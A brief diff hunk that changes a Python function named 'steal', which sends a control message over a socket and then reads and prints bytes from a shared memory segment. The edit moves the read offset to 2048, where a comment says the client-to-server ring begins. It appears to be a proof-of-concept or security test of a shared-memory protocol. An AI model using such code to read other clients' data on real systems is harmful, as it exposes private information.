@@ -26,7 +26,9 @@ def steal(ctl, memfd):
         struct.pack_into("<I", seg, 36, 2)
     ctl.send(struct.pack("<IBBBBII", 0x4F4C4F43, 2, 1, 0, 0, 0, 0))
     time.sleep(1.5)
-    stolen = bytes(seg[4096:]).replace(b"\0", b"")
+    # The bytes written to the client->server ring (its data begins 2048 bytes in: spec/WIRE.md
+    # section 4).
+    stolen = bytes(seg[2048:]).replace(b"\0", b"")
     print("SEGMENT", len(stolen), repr(stolen[:200]), flush=True)
 
 
